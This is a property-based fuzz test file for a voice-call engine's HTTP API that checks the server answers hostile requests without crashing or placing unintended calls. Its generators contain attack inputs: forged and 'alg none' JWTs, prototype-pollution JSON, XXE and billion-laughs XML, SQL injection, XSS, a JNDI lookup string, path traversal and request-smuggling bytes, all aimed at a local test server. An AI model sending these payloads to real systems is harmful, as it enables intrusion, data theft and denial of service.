// Property-based fuzzing of the whole HTTP API (fast-check) against the engine as `npm start` wires
// it. Every generated request must get a 2xx or 4xx (ARI is up: no 503, never a 500), every error
// body must have ServiceStack's ResponseStatus shape in the format asked for, no invalid request may
// originate a call, and the process must stay up. Fixed seed by default; longer runs on demand:
//   FUZZ_SEED=123 FUZZ_RUNS=20000 node --import tsx --test test/fuzz/http-fuzz.test.ts
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHmac } from 'node:crypto';
import { Socket } from 'node:net';
import fc from 'fast-check';
import jwt from 'jsonwebtoken';
import { startE2E, TEST_JWT_SECRET, type E2E } from '../support/e2e-stack.js';
import { DEMO_CALLER_ID as CALLER_ID } from '../../src/demo.js';

const SEED = Number(process.env.FUZZ_SEED ?? 20261120);
const RUNS = Number(process.env.FUZZ_RUNS ?? 1500);
const PARAMS = { seed: SEED, numRuns: RUNS, endOnFailure: true } as const;

const CALLEE = '+18144043093';

// ---------------------------------------------------------------------------------------------
// Tokens: valid ones, and every way a token can be wrong.
const b64 = (v: unknown) => Buffer.from(typeof v === 'string' ? v : JSON.stringify(v)).toString('base64url');
const now = () => Math.floor(Date.now() / 1000);
function sign(claims: Record<string, unknown>, opts: jwt.SignOptions = {}, secret = TEST_JWT_SECRET): string {
  return jwt.sign(claims, secret, { algorithm: 'HS256', ...opts });
}
/** HS256 over a payload written by hand: jsonwebtoken will not sign an own `__proto__` key. */
function rawSign(payloadJson: string): string {
  const unsigned = `${b64({ alg: 'HS256', typ: 'JWT' })}.${b64(payloadJson)}`;
  return `${unsigned}.${createHmac('sha256', TEST_JWT_SECRET).update(unsigned).digest('base64url')}`;
}
function tokens(): Record<string, string | null> {
  const base = { sub: 'fuzz', accountId: 'demo' };
  return {
    none: null,
    manager: sign({ ...base, roles: ['Manager'] }, { expiresIn: '1h' }),
    admin: sign({ ...base, roles: ['SystemAdministrator'] }, { expiresIn: '1h' }),
    otherAccount: sign({ ...base, accountId: 'other', roles: ['Manager'] }, { expiresIn: '1h' }),
    noRole: sign({ ...base, roles: [] }, { expiresIn: '1h' }),
    wrongRole: sign({ ...base, roles: ['Caller'] }, { expiresIn: '1h' }),
    rolesString: sign({ ...base, roles: 'Manager' }, { expiresIn: '1h' }),
    rolesNumbers: sign({ ...base, roles: [1, 2] }, { expiresIn: '1h' }),
    rolesObject: sign({ ...base, roles: { Manager: true } }, { expiresIn: '1h' }),
    noExp: sign({ ...base, roles: ['Manager'] }),
    expired: sign({ ...base, roles: ['Manager'], exp: now() - 60 }),
    notYet: sign({ ...base, roles: ['Manager'], nbf: now() + 3600 }, { expiresIn: '2h' }),
    badSecret: sign({ ...base, roles: ['Manager'] }, { expiresIn: '1h' }, 'another-secret-0123456789abcdef-0123456789'),
    algNone: `${b64({ alg: 'none', typ: 'JWT' })}.${b64({ ...base, roles: ['Manager'], exp: now() + 3600 })}.`,
    algNoneUpper: `${b64({ alg: 'NONE', typ: 'JWT' })}.${b64({ ...base, roles: ['SystemAdministrator'], exp: now() + 3600 })}.`,
    hs512: jwt.sign({ ...base, roles: ['Manager'] }, TEST_JWT_SECRET, { algorithm: 'HS512', expiresIn: '1h' }),
    noSub: sign({ accountId: 'demo', roles: ['Manager'] }, { expiresIn: '1h' }),
    accountObject: sign({ sub: 'fuzz', accountId: { $ne: null }, roles: ['Manager'] }, { expiresIn: '1h' }),
    protoClaims: rawSign(`{"sub":"fuzz","accountId":"demo","roles":["Manager"],"exp":${now() + 3600},"__proto__":{"roles":["SystemAdministrator"],"accountId":"other"}}`),
    protoOnly: rawSign(`{"sub":"fuzz","exp":${now() + 3600},"__proto__":{"roles":["SystemAdministrator"],"accountId":"demo"}}`),
    garbage: 'not-a-token',
    twoDots: '..',
    huge: 'a'.repeat(20000),
  };
}

// ---------------------------------------------------------------------------------------------
// Bodies.
/** Body generators around the id of a real flow of the account. */
function bodyArbitrary(knownFlowId: string): fc.Arbitrary<string | Buffer> {
  const weirdString = fc.oneof(
    fc.string({ maxLength: 40 }),
    fc.string({ unit: 'grapheme', maxLength: 40 }),
    fc.string({ unit: 'binary', maxLength: 40 }),
    fc.constantFrom('', ' ', '\u0000', '\u202Eevil', '+1\u200B8144043093', '+１８１４４０４３０９３', '𝟏𝟖𝟏𝟒', '\uFEFF+18144043093',
      '+18144043093\n', '+1814404309', '+999123', '8144043093', '+123456789012345678901234567890', '{{choice}}', '../../etc/passwd',
      "' OR 1=1 --", '<script>alert(1)</script>', '%00', '${jndi:ldap://x/a}', CALLEE, CALLER_ID, knownFlowId, '+19005550123'),
    fc.nat({ max: 100000 }).map((n) => 'x'.repeat(n)),
  );
  const fieldValue = fc.oneof(weirdString, fc.integer(), fc.double(), fc.boolean(), fc.constant(null), fc.array(weirdString, { maxLength: 3 }), fc.dictionary(weirdString, weirdString, { maxKeys: 3 }));

  /** NewOutgoingSession-like objects: often valid, often one field off, in both casings. */
  const outgoingObject = fc.record({
    flowId: fc.oneof(fc.constant(knownFlowId), fieldValue),
    numberToDial: fc.oneof(fc.constant(CALLEE), fieldValue),
    callerId: fc.oneof(fc.constant(CALLER_ID), fieldValue),
    pascal: fc.boolean(),
    extra: fc.dictionary(fc.oneof(fc.string({ maxLength: 10 }), fc.constantFrom('__proto__', 'constructor', 'prototype', 'accountId', 'state')), fieldValue, { maxKeys: 3 }),
  }, { requiredKeys: [] }).map(({ flowId, numberToDial, callerId, pascal, extra }) => {
    const o: Record<string, unknown> = { ...extra };
    const put = (k: string, v: unknown) => { if (v !== undefined) o[pascal ? k[0]!.toUpperCase() + k.slice(1) : k] = v; };
    put('flowId', flowId);
    put('numberToDial', numberToDial);
    put('callerId', callerId);
    return JSON.stringify(o);
  });

  const protoJson = fc.constantFrom(
    `{"__proto__":{"isAdmin":true},"flowId":"${knownFlowId}","numberToDial":"${CALLEE}"}`,
    `{"constructor":{"prototype":{"polluted":true}},"flowId":"${knownFlowId}","numberToDial":"${CALLEE}"}`,
    `{"flowId":"${knownFlowId}","numberToDial":"${CALLEE}","a":{"b":{"__proto__":{"x":1}}}}`,
    `{"flowId":{"__proto__":[]},"numberToDial":"${CALLEE}"}`,
    `{"steps":[{"__proto__":{"type":"hangup"}}],"name":"x"}`,
  );
  const deepJson = fc.tuple(fc.integer({ min: 20, max: 100000 }), fc.constantFrom('[', '{"a":')).map(([n, open]) => open.repeat(n) + '1' + (open === '[' ? ']' : '}').repeat(n));
  const brokenJson = fc.constantFrom('{', '{"flowId":', '{"flowId":"x",}', "{'flowId':'x'}", 'null', '[]', '"string"', '1e999999', 'NaN', '{"a":1}{"b":2}', '\uFEFF{}', '{"a":"\\ud800"}');
  const hugeJson = fc.integer({ min: 60000, max: 200000 }).map((n) => JSON.stringify({ flowId: knownFlowId, numberToDial: CALLEE, pad: 'p'.repeat(n) }));
  // 1–2 MB: the client is still writing when the 413 goes out (where answers were once lost to EPIPE).
  const megaJson = fc.integer({ min: 1024 * 1024, max: 2 * 1024 * 1024 }).map((n) => JSON.stringify({ flowId: knownFlowId, numberToDial: CALLEE, pad: 'p'.repeat(n) }));
  const flowJson = fc.record({
    name: weirdString,
    steps: fc.array(fc.record({
      id: weirdString,
      type: fc.constantFrom('playback', 'gather', 'say', 'pause', 'branch', 'set', 'record', 'hangup', 'dial', '__proto__'),
      next: weirdString,
      media: fc.array(fc.oneof(fc.constant('sound:hello-world'), weirdString), { maxLength: 3 }),
      ms: fc.oneof(fc.integer(), fc.double()),
    }, { requiredKeys: ['type'] }), { maxLength: 5 }),
  }, { requiredKeys: [] }).map((o) => JSON.stringify(o));

  const NS = 'xmlns:i="http://www.w3.org/2001/XMLSchema-instance" xmlns="http://schemas.datacontract.org/2004/07/Voice.Api.Sessions"';
  const xmlEscape = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
  const validXml = fc.tuple(weirdString, fc.boolean()).map(([number, good]) =>
    `<NewOutgoingSession ${NS}><FlowId>${knownFlowId}</FlowId><NumberToDial>${good ? CALLEE : xmlEscape(number)}</NumberToDial><Unknown>${xmlEscape(number)}</Unknown></NewOutgoingSession>`);
  const attackXml = fc.constantFrom(
    `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><NewOutgoingSession ${NS}><FlowId>&xxe;</FlowId><NumberToDial>${CALLEE}</NumberToDial></NewOutgoingSession>`,
    `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "http://127.0.0.1:1/steal">]><NewOutgoingSession ${NS}><FlowId>&xxe;</FlowId></NewOutgoingSession>`,
    `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://127.0.0.1:1/evil.dtd"> %p;]><NewOutgoingSession ${NS}/>`,
    `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"><!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;"><!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;"><!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;"><!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]><NewOutgoingSession ${NS}><FlowId>&lol9;</FlowId></NewOutgoingSession>`,
    `<!DOCTYPE NewOutgoingSession SYSTEM "http://127.0.0.1:1/x.dtd"><NewOutgoingSession ${NS}><FlowId>${knownFlowId}</FlowId><NumberToDial>${CALLEE}</NumberToDial></NewOutgoingSession>`,
    `<?xml version="1.0"?>\n<!-- c --><!DOCTYPE x><NewOutgoingSession ${NS}/>`,
    `<NewOutgoingSession ${NS}><FlowId>${knownFlowId}</FlowId><NumberToDial>&#43;18144043093</NumberToDial></NewOutgoingSession>`,
    `<NewOutgoingSession ${NS}><FlowId><![CDATA[${knownFlowId}]]></FlowId><NumberToDial>${CALLEE}</NumberToDial></NewOutgoingSession>`,
    `<NewOutgoingSession ${NS}><FlowId>${knownFlowId}</FlowId><FlowId>other</FlowId><NumberToDial>${CALLEE}</NumberToDial></NewOutgoingSession>`,
    `<NewOutgoingSession ${NS}><__proto__><polluted>1</polluted></__proto__><FlowId>${knownFlowId}</FlowId></NewOutgoingSession>`,
    `<NewOutgoingSession ${NS}><FlowId>${knownFlowId}</FlowId>`,
    `<a><b></a></b>`,
    `<?xml version="1.0" encoding="UTF-16"?><NewOutgoingSession/>`,
    '<' + 'a>'.repeat(5000),
    `<x:NewOutgoingSession xmlns:x="urn:evil"><x:FlowId>${knownFlowId}</x:FlowId></x:NewOutgoingSession>`,
  );
  const deepXml = fc.integer({ min: 40, max: 20000 }).map((n) => '<a>'.repeat(n) + '</a>'.repeat(n));

  const bodyArb = fc.oneof(
    { weight: 4, arbitrary: outgoingObject },
    { weight: 1, arbitrary: protoJson },
    { weight: 1, arbitrary: deepJson },
    { weight: 1, arbitrary: brokenJson },
    { weight: 1, arbitrary: hugeJson },
    { weight: 1, arbitrary: megaJson },
    { weight: 2, arbitrary: flowJson },
    { weight: 2, arbitrary: validXml },
    { weight: 2, arbitrary: attackXml },
    { weight: 1, arbitrary: deepXml },
    { weight: 1, arbitrary: fc.uint8Array({ maxLength: 300 }).map((b) => Buffer.from(b)) },
    { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 200 }) },
  );
  return bodyArb;
}

const contentTypeArb = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom('application/json', 'application/xml', 'text/xml', 'application/json; charset=utf-8') },
  { weight: 3, arbitrary: fc.constantFrom(undefined, '', 'text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/json; charset=latin1',
    'application/json; charset=utf-16', 'application/vnd.api+json', 'application/soap+xml', 'APPLICATION/JSON', 'application/jsonp', 'image/png', '*/*', 'application/json, text/xml') },
  { weight: 1, arbitrary: fc.stringMatching(/^[ -~]{0,60}$/) },
);

// ---------------------------------------------------------------------------------------------
// Requests.
interface FuzzRequest {
  method: string;
  path: string;
  headers: Record<string, string>;
  body: string | Buffer | undefined;
}

const idArb = (known: () => string[]) => fc.oneof(
  fc.constantFrom(...known()),
  fc.constantFrom('..', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '%00', 'a%2Fb', '%E0%A4%A', ' ', '1 OR 1=1', 'null', 'undefined', '__proto__', 'constructor', 'x'.repeat(5000)),
  fc.string({ maxLength: 40 }).map(encodeURIComponent),
);

function requestArb(known: () => string[], tokenNames: string[], bodyArb: fc.Arbitrary<string | Buffer>): fc.Arbitrary<FuzzRequest & { token: string }> {
  const resource = fc.oneof(
    fc.constant('/sessions/outgoing'),
    fc.constant('/sessions'),
    idArb(known).map((id) => `/sessions/${id}`),
    fc.constant('/flows'),
    idArb(known).map((id) => `/flows/${id}`),
    fc.constant('/phone-numbers'),
    idArb(known).map((id) => `/phone-numbers/${id}`),
    fc.constantFrom('/health', '/ready', '/', '/sessions/outgoing/x', '/admin', '/sim/channels', '/ari/channels', '//sessions', '/SESSIONS/OUTGOING', '/sessions/outgoing/', '/.env'),
  );
  const suffix = fc.constantFrom('', '', '', '.json', '.xml', '.csv', '.JSON');
  const queryKey = fc.constantFrom('format', 'callback', 'accountId', 'page', 'countPerPage', 'state', 'flowId', 'number', 'dateFrom', 'dateTo', 'version',
    'access_token', '__proto__', 'constructor[prototype][x]', 'a[b][c]', 'page[]');
  const queryValue = fc.oneof(fc.constantFrom('json', 'xml', 'csv', 'cb', 'a.b', 'alert(1)//', '0', '-1', '1e9', '99999999999999999999', 'demo', 'other', 'queued', '2026-01-01', ''), fc.string({ maxLength: 20 }));
  const query = fc.array(fc.tuple(queryKey, queryValue), { maxLength: 4 }).map((pairs) =>
    pairs.length === 0 ? '' : '?' + pairs.map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`).join('&'));
  const headerValue = fc.stringMatching(/^[ -~]{0,80}$/);
  const extraHeaders = fc.dictionary(
    fc.constantFrom('accept', 'x-account-id', 'idempotency-key', 'x-forwarded-for', 'accept-encoding', 'content-encoding', 'transfer-encoding-x', 'origin', 'x-http-method-override', 'cookie', 'x-random'),
    fc.oneof(headerValue, fc.constantFrom('application/xml', 'application/json', 'text/html;q=0.9, application/xml;q=1', '*/*', 'gzip', 'deflate', 'demo', 'other', 'DELETE')),
    { maxKeys: 4 },
  );
  const authorization = fc.oneof(
    { weight: 8, arbitrary: fc.constantFrom(...tokenNames).map((name) => ({ name, header: undefined as string | undefined })) },
    { weight: 1, arbitrary: fc.constantFrom('Basic ZW5naW5lOmVuZ2luZQ==', 'Bearer', 'Bearer  ', 'bearer x.y.z', 'Token abc', 'Bearer a.b.c d').map((header) => ({ name: 'raw', header: header as string | undefined })) },
    { weight: 1, arbitrary: headerValue.map((v) => ({ name: 'raw', header: `Bearer ${v}` as string | undefined })) },
  );
  return fc.record({
    method: fc.oneof({ weight: 6, arbitrary: fc.constantFrom('GET', 'POST', 'PUT', 'PATCH', 'DELETE') }, { weight: 1, arbitrary: fc.constantFrom('HEAD', 'OPTIONS', 'PROPFIND', 'FOO') }),
    resource, suffix, query, extraHeaders, authorization, contentType: contentTypeArb, body: fc.option(bodyArb, { freq: 3 }),
  }).map(({ method, resource, suffix, query, extraHeaders, authorization, contentType, body }) => {
    const headers: Record<string, string> = { ...extraHeaders };
    if (contentType !== undefined) headers['content-type'] = contentType;
    if (authorization.header !== undefined) headers.authorization = authorization.header;
    const noBody = method === 'GET' || method === 'HEAD';
    return { method, path: resource + suffix + query, headers, body: noBody ? undefined : (body ?? undefined), token: authorization.name };
  });
}

// ---------------------------------------------------------------------------------------------
function assertErrorShape(status: number, contentType: string, text: string, where: string): void {
  if (text === '') return; // HEAD, or a body-less 4xx from Node's parser
  if (contentType.includes('xml')) {
    assert.match(text, /<ResponseStatus>[\s\S]*<ErrorCode>[^<]+<\/ErrorCode>[\s\S]*<Message>[^<]*<\/Message>/, `${where}: XML error shape`);
    return;
  }
  let json = text;
  if (contentType.includes('javascript')) {
    const m = /^\/\*\*\/[A-Za-z_$][\w$.]*\(([\s\S]*)\);$/.exec(text);
    assert.ok(m, `${where}: JSONP wrapper`);
    json = m[1] ?? '';
  } else {
    assert.match(contentType, /json/, `${where}: status ${status} with content type ${contentType}`);
  }
  const body = JSON.parse(json);
  assert.equal(typeof body?.responseStatus?.errorCode, 'string', `${where}: errorCode`);
  assert.equal(typeof body.responseStatus.message, 'string', `${where}: message`);
  const errors = body.responseStatus.errors ?? [];
  assert.ok(Array.isArray(errors), `${where}: errors is a list`);
  for (const e of errors) {
    assert.equal(typeof e.errorCode, 'string', `${where}: errors[].errorCode`);
    assert.equal(typeof e.message, 'string', `${where}: errors[].message`);
  }
  assert.ok(!/\n\s+at .+:\d+:\d+/.test(text), `${where}: no stack trace in an error body`);
}

describe('HTTP API fuzzing', { timeout: 240000 }, () => {
  let e2e: E2E;
  let tokenTable: Record<string, string | null>;
  let flowId = '';
  const known: string[] = ['missing-id'];
  /** Sessions created by 200 answers to POST /sessions/outgoing: the only calls allowed to originate. */
  const created = new Set<string>();
  let originatesAtStart = 0;
  let requests = 0;
  const statusCounts = new Map<number, number>();
  const rejections: unknown[] = [];
  const onRejection = (r: unknown): void => { rejections.push(r); };

  before(async () => {
    process.on('unhandledRejection', onRejection);
    e2e = await startE2E({ MAX_CALLS_PER_SECOND_PER_ACCOUNT: '100000', MAX_LIVE_CALLS_PER_ACCOUNT: '100000' }, {
      // The fuzzed calls that do get through answer and hang up at once: they must not pile up.
      [CALLEE]: { result: 'answer', answerAfterMs: 20, hangupAfterMs: 20 },
    });
    tokenTable = tokens();
    const flows = await e2e.request('GET', '/flows');
    flowId = flows.body.items[0].id;
    known.push(flowId);
    originatesAtStart = e2e.sim.originateCount();
    const res = await e2e.request('POST', '/sessions/outgoing', { body: { flowId, numberToDial: CALLEE, callerId: CALLER_ID } });
    assert.equal(res.status, 200, res.text);
    created.add(res.body.id);
    known.push(res.body.id);
    const numbers = await e2e.request('GET', '/phone-numbers');
    for (const n of numbers.body?.items ?? []) known.push(n.id);
  });
  after(async () => {
    await e2e?.close();
    process.off('unhandledRejection', onRejection);
  });

  async function send(r: FuzzRequest & { token: string }): Promise<void> {
    const headers = { ...r.headers };
    if (r.token !== 'raw') {
      const token = tokenTable[r.token];
      if (token) headers.authorization = `Bearer ${token}`;
    }
    const where = `${r.method} ${r.path.slice(0, 120)} [${r.token}, ${headers['content-type'] ?? 'no type'}]`;
    let res: Response;
    try {
      res = await fetch(e2e.base + r.path, { method: r.method, headers, body: r.body });
    } catch (err) {
      // fetch itself refuses some requests (a header it will not send): nothing reached the server.
      if (err instanceof TypeError && !(err as { cause?: unknown }).cause) return;
      throw new Error(`${where}: the request failed: ${(err as Error).message} ${String((err as { cause?: unknown }).cause ?? '')}`);
    }
    const text = await res.text();
    requests++;
    statusCounts.set(res.status, (statusCounts.get(res.status) ?? 0) + 1);
    assert.ok((res.status >= 200 && res.status < 300) || (res.status >= 400 && res.status < 500), `${where}: status ${res.status}: ${text.slice(0, 300)}`);
    const contentType = res.headers.get('content-type') ?? '';
    if (res.status >= 400) assertErrorShape(res.status, contentType, text, where);
    if (res.status === 200 && r.method === 'POST' && /^\/sessions\/outgoing(\.json|\.xml)?(\?|$)/i.test(r.path)) {
      const id = contentType.includes('xml') ? /<Id>([^<]+)<\/Id>/.exec(text)?.[1] : /"id":"([^"]+)"/.exec(text)?.[1];
      assert.ok(id, `${where}: a created session has an id: ${text.slice(0, 200)}`);
      created.add(id);
      if (created.size < 50) known.push(id);
    }
  }

  test(`POST /sessions/outgoing with a valid token and hostile bodies (${RUNS} requests)`, async () => {
    const arb = fc.record({ body: bodyArbitrary(flowId), contentType: contentTypeArb, accept: fc.constantFrom(undefined, 'application/xml', 'application/json'), suffix: fc.constantFrom('', '.xml', '.json', '?format=xml', '?callback=cb') })
      .map(({ body, contentType, accept, suffix }) => {
        const headers: Record<string, string> = {};
        if (contentType !== undefined) headers['content-type'] = contentType;
        if (accept) headers.accept = accept;
        return { method: 'POST', path: `/sessions/outgoing${suffix}`, headers, body, token: 'manager' };
      });
    await fc.assert(fc.asyncProperty(arb, send), PARAMS);
  });

  test(`every route, method, header, token and body (${RUNS} requests, seed ${SEED})`, async () => {
    await fc.assert(fc.asyncProperty(requestArb(() => known, Object.keys(tokens()), bodyArbitrary(flowId)), send), PARAMS);
  });

  test('malformed percent-encoding in any path parameter is a 400, not a 500 (found by this suite)', async () => {
    for (const method of ['GET', 'PUT', 'PATCH', 'DELETE']) {
      for (const path of ['/sessions/%E0%A4%A', '/flows/%ZZ', '/phone-numbers/%', '/flows/%E0%A4%A.json', '/sessions/%C0%AF']) {
        const res = await fetch(e2e.base + path, { method, headers: { authorization: `Bearer ${tokenTable.manager}` } });
        await res.arrayBuffer();
        assert.equal(res.status, 400, `${method} ${path}`);
      }
    }
  });

  test('raw HTTP garbage on a socket gets a 4xx or a close, never a crash', async () => {
    const arb = fc.oneof(
      fc.uint8Array({ minLength: 1, maxLength: 400 }).map((b) => Buffer.from(b)),
      fc.tuple(fc.constantFrom('GET', 'POST', 'G\u0000T', 'GET GET'), fc.stringMatching(/^[\x00-\x7f]{0,60}$/), fc.constantFrom('HTTP/1.1', 'HTTP/9.9', 'HTTP/1.0', ''),
        fc.array(fc.stringMatching(/^[\x00-\xff]{0,40}$/), { maxLength: 4 }))
        .map(([m, p, v, hs]) => Buffer.from(`${m} /${p} ${v}\r\n${hs.join('\r\n')}\r\n\r\n`, 'latin1')),
      fc.constantFrom(
        'POST /sessions/outgoing HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 50\r\n\r\nhello',
        'POST /sessions/outgoing HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n',
        'POST /sessions/outgoing HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\nxx\r\n0\r\n\r\n',
        'POST /sessions/outgoing HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n',
        `GET /${'a'.repeat(20000)} HTTP/1.1\r\nHost: x\r\n\r\n`,
        `GET / HTTP/1.1\r\nHost: x\r\nX: ${'b'.repeat(20000)}\r\n\r\n`,
      ).map((s) => Buffer.from(s, 'latin1')),
    );
    const runs = Math.max(50, Math.round(RUNS / 10));
    await fc.assert(fc.asyncProperty(arb, async (bytes) => {
      const reply = await new Promise<string>((resolve) => {
        const socket = new Socket();
        let data = '';
        const timer = setTimeout(() => socket.destroy(), 2000);
        socket.on('data', (c) => { data += c.toString('latin1'); if (/\r\n\r\n/.test(data)) { clearTimeout(timer); socket.destroy(); } });
        socket.on('error', () => undefined);
        socket.on('close', () => { clearTimeout(timer); resolve(data); });
        socket.connect(e2e.stack.httpPort, '127.0.0.1', () => socket.write(bytes));
      });
      const status = /^HTTP\/1\.[01] (\d{3})/.exec(reply)?.[1];
      if (status) assert.ok(Number(status) < 500, `raw request answered ${status}: ${reply.slice(0, 200)}`);
      requests++;
    }), { seed: SEED, numRuns: runs, endOnFailure: true });
  });

  test('afterwards: the process is up, no invalid request originated a call, no unhandled rejection', async () => {
    const health = await e2e.request('GET', '/health', { token: null });
    assert.equal(health.status, 200);
    const ready = await e2e.request('GET', '/ready', { token: null });
    assert.equal(ready.status, 200);
    // Originates follow a 200 asynchronously: give the last ones a moment to land, then compare.
    const deadline = Date.now() + 5000;
    while (e2e.sim.originateCount() - originatesAtStart < created.size && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
    assert.equal(e2e.sim.originateCount() - originatesAtStart, created.size, 'one originate per created session, none for anything else');
    assert.deepEqual(rejections.map(String), []);
    assert.ok(requests > RUNS, `requests sent: ${requests}`);
    process.stdout.write(`# fuzz: ${requests} requests, seed ${SEED}, statuses ${JSON.stringify(Object.fromEntries([...statusCounts].sort((a, b) => a[0] - b[0])))}, sessions created ${created.size}\n`);
  });
});
